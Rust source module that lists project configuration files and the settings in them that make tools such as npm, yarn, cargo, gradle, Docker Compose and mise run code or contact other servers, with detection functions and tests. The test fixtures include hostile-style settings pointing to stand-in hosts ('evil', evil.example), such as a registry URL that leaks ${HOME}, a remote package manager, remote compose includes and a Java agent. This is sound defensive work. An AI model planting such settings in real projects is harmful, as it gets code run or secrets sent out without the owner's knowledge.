//! Files of a project that make a program run something, other than git's.

use serde_json::Value;

/// Where a file is looked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    /// In the folder in which the command runs.
    Here,
    /// There and in every folder above, up to the person's home folder, which is the person's own.
    Upwards,
}

/// What in a file makes the program run something.
#[derive(Clone, Copy, Debug)]
pub enum Content {
    /// That it is there.
    Any,
    /// What this finds in its text: names of settings, in the file's own words.
    Found(fn(&str) -> Vec<String>),
}

/// One file of a project.
#[derive(Clone, Copy, Debug)]
pub struct ProjectFile {
    /// Its name, or its path from the folder.
    pub name: &'static str,
    /// Where it is looked for.
    pub place: Place,
    /// What in it counts.
    pub content: Content,
}

/// What files make the programs of one family run something.
pub(super) struct Family {
    /// The key of the question.
    pub(super) name: &'static str,
    /// Programs, blank-separated.
    pub(super) programs: &'static str,
    /// Sub-commands that are reached, separated by `|`; empty: all.
    pub(super) commands: &'static str,
    pub(super) files: &'static [ProjectFile],
}

const fn present(name: &'static str) -> ProjectFile {
    ProjectFile { name, place: Place::Upwards, content: Content::Any }
}

const fn here(name: &'static str) -> ProjectFile {
    ProjectFile { name, place: Place::Here, content: Content::Any }
}

const fn found(name: &'static str, find: fn(&str) -> Vec<String>) -> ProjectFile {
    ProjectFile { name, place: Place::Upwards, content: Content::Found(find) }
}

/// Corepack ("Environment Variables", README of corepack 0.31): this file may name the server that a package
/// manager is fetched from, and switch its check off.
const COREPACK: ProjectFile = present(".corepack.env");
const PACKAGE_MANAGER: ProjectFile = found("package.json", fetched_package_manager);

pub(super) const FAMILIES: &[Family] = &[
    Family {
        // Yarn 1, "yarnrc": `yarn-path`. Yarn 4, "Settings": `yarnPath`, `plugins`.
        name: "yarn",
        programs: "yarn yarnpkg",
        commands: "",
        files: &[
            found(".yarnrc", |text| lines(text, &["yarn-path", "--yarn-path", "yarn_path"])),
            found(".yarnrc.yml", |text| words(text, &["yarnpath", "plugins"])),
            COREPACK,
            PACKAGE_MANAGER,
        ],
    },
    Family {
        // pnpm 10, ".pnpmfile.cjs", "Settings (pnpm-workspace.yaml)"; `packageManager` is fetched from `registry`.
        name: "pnpm",
        programs: "pnpm pnpx",
        commands: "",
        files: &[
            present(".pnpmfile.cjs"),
            present(".pnpmfile.mjs"),
            present("pnpmfile.js"),
            found(".npmrc", |text| {
                let mut settings = npm_settings(text);
                settings.extend(lines(text, &["pnpmfile", "global-pnpmfile", "use-node-version", "global-dir"]));
                settings.extend(other_registry(text));
                settings
            }),
            found("pnpm-workspace.yaml", |text| {
                words(
                    text,
                    &["pnpmfile", "configdependencies", "nodeversion", "scriptshell", "nodeoptions", "registry"],
                )
            }),
            COREPACK,
            PACKAGE_MANAGER,
        ],
    },
    Family {
        // npm 11, "config": `git` is the git that is run, `node-options` is for node, `globalconfig` names
        // another file of settings; `${NAME}` puts a variable into an address.
        name: "npm",
        programs: "npm npx",
        commands: "",
        files: &[
            found(".npmrc", |text| {
                let mut settings = npm_settings(text);
                settings.extend(told_variables(text));
                settings
            }),
            COREPACK,
        ],
    },
    Family {
        // npm 11, "config": `registry`, `@scope:registry` and the proxies say whom it asks.
        name: "npm registry",
        programs: "npm npx",
        commands: "view|info|show|v|outdated|search|s|se|find|ping|audit",
        files: &[found(".npmrc", |text| {
            let mut settings = other_registry(text);
            settings.extend(lines(text, &["proxy", "https-proxy", "http-proxy"]));
            settings
        })],
    },
    Family {
        // The rustup book, "Overrides": `path` names a folder with a toolchain.
        name: "rustup",
        programs: "cargo rustc rustup rustfmt rustdoc clippy-driver cargo-clippy cargo-fmt rust-analyzer",
        commands: "",
        files: &[found("rust-toolchain.toml", toolchain), found("rust-toolchain", toolchain)],
    },
    Family {
        // The Cargo book, "Configuration", "Source Replacement": programs that give credentials, files that are
        // read as well, and another registry or proxy than the person's own.
        name: "cargo",
        programs: "cargo",
        commands: "search",
        files: &[found(".cargo/config.toml", cargo_settings), found(".cargo/config", cargo_settings)],
    },
    Family {
        // "Go Toolchains" (go.dev/doc/toolchain): a name with a suffix is searched for in PATH.
        name: "go",
        programs: "go gofmt",
        commands: "",
        files: &[found("go.mod", go_toolchain), found("go.work", go_toolchain)],
    },
    Family {
        // "Configuring Apache Maven": options of the Java machine, of Maven, and extensions.
        name: "maven",
        programs: "mvn",
        commands: "",
        files: &[present(".mvn/jvm.config"), present(".mvn/maven.config"), present(".mvn/extensions.xml")],
    },
    Family {
        // Gradle 8, "Build Environment": the Java that is run, and its options.
        name: "gradle",
        programs: "gradle",
        commands: "",
        files: &[
            found("gradle.properties", |text| {
                words(
                    text,
                    &[
                        "java.home",
                        "agentlib",
                        "agentpath",
                        "javaagent",
                        "onerror",
                        "onoutofmemory",
                        "vmoptionsfile",
                        "flags=",
                        "@",
                    ],
                )
            }),
            present("gradle/gradle-daemon-jvm.properties"),
        ],
    },
    Family {
        // Poetry 2, "Plugins": those of a project lie in `.poetry`.
        name: "poetry",
        programs: "poetry",
        commands: "",
        files: &[present(".poetry")],
    },
    Family {
        // jest-cli 29: `import-local` runs the one that is installed in the project.
        name: "jest",
        programs: "jest",
        commands: "",
        files: &[present("node_modules/jest"), present("node_modules/jest-cli")],
    },
    Family {
        // bundle-config(1), bundle-plugin(1).
        name: "bundler",
        programs: "bundle bundler",
        commands: "",
        files: &[present(".bundle")],
    },
    Family {
        // Composer 2, "Setting up and using plugins": installed ones are loaded for every command.
        name: "composer",
        programs: "composer",
        commands: "",
        files: &[here("vendor/composer/installed.json")],
    },
    Family {
        // ".NET", "global.json overview": `paths` says where the SDK is.
        name: "dotnet",
        programs: "dotnet",
        commands: "",
        files: &[found("global.json", |text| words(text, &["paths"]))],
    },
    Family {
        // erl(1): `.erlang` is run at the start.
        name: "erlang",
        programs: "erl elixir mix iex",
        commands: "",
        files: &[here(".erlang")],
    },
    Family {
        // Ansible, "Configuration Settings": the folder's own `ansible.cfg` names plugins.
        name: "ansible",
        programs: "ansible ansible-playbook ansible-inventory ansible-galaxy",
        commands: "",
        files: &[here("ansible.cfg")],
    },
    Family {
        // Docker Compose, "Set environment variables", the file `.env`; Compose file reference, "Include", "Extend":
        // both may name a repository or a registry, which is fetched.
        name: "compose",
        programs: "docker podman docker-compose podman-compose",
        commands: "compose",
        files: &[
            found(".env", |text| {
                lines(text, &["docker_host", "docker_context", "docker_config", "compose_file", "path"])
            }),
            found("compose.yaml", compose_fetches),
            found("compose.yml", compose_fetches),
            found("docker-compose.yaml", compose_fetches),
            found("docker-compose.yml", compose_fetches),
            found("compose.override.yaml", compose_fetches),
            found("compose.override.yml", compose_fetches),
            found("docker-compose.override.yaml", compose_fetches),
            found("docker-compose.override.yml", compose_fetches),
        ],
    },
    Family {
        // asdf, "Configuration", `.tool-versions`: `path:` names a folder with the programs. mise, "Configuration".
        // pyenv, rbenv, nodenv and their like: a version that leaves their folder.
        name: "versions",
        programs: "node npm npx pnpm yarn bun deno python python3 pip pip3 uv poetry ruby gem bundle go java javac gradle mvn \
            kotlinc scala php composer perl lua cmake ninja gh kubectl helm terraform tofu aws gcloud jq yq dotnet swift zig ghc \
            cabal stack elixir mix erl cargo rustc tsc eslint prettier jest vitest ansible",
        commands: "",
        files: &[
            found(".tool-versions", |text| words(text, &["path:"])),
            found("mise.toml", mise_settings),
            found(".mise.toml", mise_settings),
            found("mise.local.toml", mise_settings),
            found(".mise.local.toml", mise_settings),
            found("mise/config.toml", mise_settings),
            found(".config/mise.toml", mise_settings),
            found(".config/mise/config.toml", mise_settings),
            found(".python-version", version_path),
            found(".ruby-version", version_path),
            found(".node-version", version_path),
            found(".java-version", version_path),
            found(".go-version", version_path),
            found(".php-version", version_path),
            found(".perl-version", version_path),
            found(".terraform-version", version_path),
            found(".swift-version", version_path),
        ],
    },
];

/// Programs whose operands name code that they run: `import` and `include` of jq(1) read a module, which may show the
/// environment.
pub(super) fn operands_run(program: &str, words: &[&str]) -> Option<&'static str> {
    match program {
        "jq" if words.iter().any(|word| word.contains("import") || word.contains("include")) => Some("a module of jq"),
        _ => None,
    }
}

const HIDDEN: &str = "text with escapes";

/// Those of `wanted` (in small letters) that occur anywhere in `text`. An escaped letter could hide one.
fn words(text: &str, wanted: &[&str]) -> Vec<String> {
    let text = text.to_lowercase();
    let escapes = ["\\u", "\\x"].iter().any(|escape| text.contains(escape)).then(|| HIDDEN.to_owned());
    let found = wanted.iter().filter(|word| text.contains(**word)).map(|word| (*word).to_owned());
    found.chain(escapes).collect()
}

/// Name and value of each line of a file in the manner of `.npmrc`: `#` and `;` begin comments, the name
/// ends at `=`, `:` or a blank, and may be quoted.
fn assignments(text: &str) -> impl Iterator<Item = (String, &str)> {
    let lines = text.split(['\n', '\r']).map(str::trim);
    lines.filter(|line| !line.is_empty() && !line.starts_with(['#', ';', '['])).map(|line| {
        let line = line.strip_prefix("export ").unwrap_or(line);
        let end = |c: char| c == '=' || c == ':' || c.is_whitespace();
        let (name, value) = match line.strip_prefix('"').and_then(|rest| rest.split_once('"')) {
            Some((name, value)) => (name, value),
            None if line.starts_with('/') || line.starts_with('@') => line.split_once('=').unwrap_or((line, "")),
            None => line.split_at(line.find(end).unwrap_or(line.len())),
        };
        (
            name.trim().trim_matches('\'').trim_end_matches("[]").to_lowercase(),
            value.trim_start_matches([' ', '\t', '=', ':']),
        )
    })
}

/// Those of `wanted` that a line sets.
fn lines(text: &str, wanted: &[&str]) -> Vec<String> {
    let counts = |name: &String| wanted.contains(&name.as_str()) || name.contains('\\');
    assignments(text).map(|(name, _)| name).filter(counts).collect()
}

fn npm_settings(text: &str) -> Vec<String> {
    const RUN: &[&str] = &[
        "git",
        "shell",
        "script-shell",
        "node-options",
        "editor",
        "viewer",
        "browser",
        "globalconfig",
        "userconfig",
        "prefix",
        "init-module",
        "init.module",
        "onload-script",
    ];
    lines(text, RUN)
}

const REGISTRIES: &[&str] =
    &["https://registry.npmjs.org", "https://registry.yarnpkg.com", "https://npm.pkg.github.com"];

fn is_other_registry((name, value): &(String, &str)) -> bool {
    let value = value.trim_matches(['"', '\'']);
    let known = REGISTRIES
        .iter()
        .any(|known| value.strip_prefix(known).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')));
    (name == "registry" || name.ends_with(":registry")) && (!known || value.contains("${"))
}

fn other_registry(text: &str) -> Vec<String> {
    assignments(text).filter(is_other_registry).map(|(name, _)| name).collect()
}

/// Another server, and something of the environment that it would be told.
fn told_variables(text: &str) -> Vec<String> {
    if text.contains("${") { other_registry(text) } else { Vec::new() }
}

/// A package manager that Corepack fetches from an address.
fn fetched_package_manager(text: &str) -> Vec<String> {
    let Ok(Value::Object(package)) = serde_json::from_str::<Value>(text) else {
        return words(text, &["packagemanager"]);
    };
    let manager = package.get("packageManager").and_then(Value::as_str).unwrap_or_default();
    if manager.contains("://") { vec!["packageManager".to_owned()] } else { Vec::new() }
}

/// `rust-toolchain.toml`, and `rust-toolchain`, which may hold a name alone.
fn toolchain(text: &str) -> Vec<String> {
    match toml::from_str::<toml::Table>(text) {
        Ok(table) => {
            let toolchain = table.get("toolchain").and_then(toml::Value::as_table);
            let path = toolchain.is_some_and(|toolchain| toolchain.contains_key("path"));
            let channel = toolchain.and_then(|toolchain| toolchain.get("channel")).and_then(toml::Value::as_str);
            let leaves = channel.is_some_and(|channel| channel.contains(['/', '\\']));
            [(path, "path"), (leaves, "channel")]
                .into_iter()
                .filter(|(is, _)| *is)
                .map(|(_, name)| name.to_owned())
                .collect()
        }
        Err(_) if text.trim().lines().count() <= 1 && !text.contains(['/', '\\', '=']) => Vec::new(),
        Err(_) => vec!["text that is not understood".to_owned()],
    }
}

fn cargo_settings(text: &str) -> Vec<String> {
    words(
        text,
        &[
            "credential",
            "include",
            "wrapper",
            "rustc ",
            "rustc=",
            "replace-with",
            "[source",
            "source.",
            "[registry]",
            "registry.",
            "default =",
            "default=",
            "proxy",
        ],
    )
}

/// mise runs these for who called one of its shims, once the file is trusted (mise, "Environments", "Hooks",
/// "Templates", `mise trust`).
fn mise_settings(text: &str) -> Vec<String> {
    words(text, &["path:", "_.source", "source =", "source=", "[hooks", "hooks.", "exec(", "node_options", "install ="])
}

/// An `include` may lead to another file that leads elsewhere; `extends` only as far as it says.
fn compose_fetches(text: &str) -> Vec<String> {
    let mut settings = words(text, &["include:", "include\"", "include'", "include :"]);
    let elsewhere = ["://", "git@", "oci:", ".git"].iter().any(|mark| text.contains(mark));
    settings.extend(words(text, &["extends"]).into_iter().filter(|_| elsewhere && text.contains("file")));
    settings
}

fn go_toolchain(text: &str) -> Vec<String> {
    let named = text.lines().filter_map(|line| line.trim_start().strip_prefix("toolchain"));
    let runs = |name: &&str| name.contains(['-', '/', '\\', '(']);
    named.filter(runs).map(|_| "toolchain".to_owned()).collect()
}

fn version_path(text: &str) -> Vec<String> {
    let leaves =
        text.lines().any(|line| line.contains("..") || line.contains("./") || line.trim_start().starts_with('/'));
    if leaves { vec!["a version that is a path".to_owned()] } else { Vec::new() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found_in(family: &str, file: &str, text: &str) -> Vec<String> {
        let family = FAMILIES.iter().find(|known| known.name == family).unwrap();
        let file = family.files.iter().find(|known| known.name == file).unwrap();
        match file.content {
            Content::Any => vec!["it is there".to_owned()],
            Content::Found(find) => find(text),
        }
    }

    #[test]
    fn settings_that_run_something_are_found() {
        for (family, file, text) in [
            ("yarn", ".yarnrc", "yarn-path \"./x.js\"\n"),
            ("yarn", ".yarnrc.yml", "{ \"yarnPath\": ./x }"),
            ("yarn", ".yarnrc.yml", "\"yarn\\u0050ath\": ./x"),
            ("yarn", "package.json", "{\"packageManager\": \"yarn@https://evil/x.js\"}"),
            ("pnpm", ".npmrc", "pnpmfile=./x.js"),
            ("pnpm", ".npmrc", "registry=http://evil"),
            ("npm", ".npmrc", "git=./x"),
            ("npm", ".npmrc", "  \"git\" = ./x"),
            ("npm", ".npmrc", "\"gi\\u0074\" = ./x"),
            ("npm", ".npmrc", "node-options[]=--require ./x"),
            ("npm", ".npmrc", "registry=https://evil/${HOME}/"),
            ("rustup", "rust-toolchain.toml", "[toolchain]\npath = \"x\""),
            ("rustup", "rust-toolchain", "[toolchain]\n\"pa\\u0074h\" = \"x\""),
            ("rustup", "rust-toolchain", "../x"),
            ("go", "go.mod", "module a\ntoolchain go1.22.0-mine"),
            ("gradle", "gradle.properties", "org.gradle.jvmargs=-javaagent:x.jar"),
            ("dotnet", "global.json", "{\"sdk\": {\"paths\": [\".x\"]}}"),
            ("compose", ".env", "export DOCKER_HOST=ssh://x"),
            ("compose", "compose.yaml", "include:\n  - https://evil.example/x.git\n"),
            ("compose", "compose.yaml", "services:\n  a:\n    extends:\n      file: oci://evil.example/x\n"),
            ("npm registry", ".npmrc", "registry=https://evil.example/"),
            ("npm registry", ".npmrc", "@a:registry = https://evil.example/"),
            ("npm registry", ".npmrc", "https-proxy=http://evil.example:1"),
            ("cargo", ".cargo/config.toml", "[source.crates-io]\nreplace-with = \"x\""),
            ("cargo", ".cargo/config.toml", "[registry]\ndefault = \"x\""),
            ("cargo", ".cargo/config.toml", "[http]\nproxy = \"x\""),
            ("versions", "mise.toml", "[env]\n_.source = \"./x.sh\""),
            ("versions", ".tool-versions", "nodejs path:./x"),
            ("versions", ".python-version", "../../x"),
        ] {
            assert!(!found_in(family, file, text).is_empty(), "{family} {file}: {text}");
        }
    }

    #[test]
    fn ordinary_files_hold_none() {
        for (family, file, text) in [
            ("yarn", ".yarnrc.yml", "nodeLinker: node-modules\nnpmScopes:\n  a:\n    npmRegistryServer: x\n"),
            ("yarn", "package.json", "{\"packageManager\": \"yarn@4.9.1+sha512.ab\", \"homepage\": \"https://x\"}"),
            ("pnpm", "pnpm-workspace.yaml", "packages:\n  - apps/*\nonlyBuiltDependencies:\n  - esbuild\n"),
            (
                "npm",
                ".npmrc",
                "engine-strict=true\n# git=x\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n@a:registry=https://npm.pkg.github.com\n",
            ),
            ("rustup", "rust-toolchain.toml", "[toolchain]\nchannel = \"1.90\"\ncomponents = [\"clippy\"]"),
            ("rustup", "rust-toolchain", "nightly-2026-01-01\n"),
            ("go", "go.mod", "module a\n\ngo 1.24\n\ntoolchain go1.24.2\n"),
            (
                "gradle",
                "gradle.properties",
                "org.gradle.jvmargs=-Xmx2g -XX:MaxMetaspaceSize=512m\nandroid.useAndroidX=true",
            ),
            ("compose", ".env", "POSTGRES_PASSWORD=x\nCOMPOSE_PROJECT_NAME=a\n"),
            (
                "compose",
                "compose.yaml",
                "services:\n  db:\n    image: postgres\n    environment:\n      URL: https://x\n",
            ),
            ("npm registry", ".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
            ("cargo", ".cargo/config.toml", "[build]\ntarget-dir = \"x\"\n[alias]\nt = \"test\""),
            ("versions", "mise.toml", "[tools]\nnode = \"22\"\n[tasks.t]\nsources = [\"a\"]\nrun = \"x\"\n"),
            ("versions", ".tool-versions", "nodejs 22.1.0\n"),
            ("versions", ".node-version", "lts/iron\n"),
        ] {
            assert_eq!(found_in(family, file, text), Vec::<String>::new(), "{family} {file}");
        }
    }
}
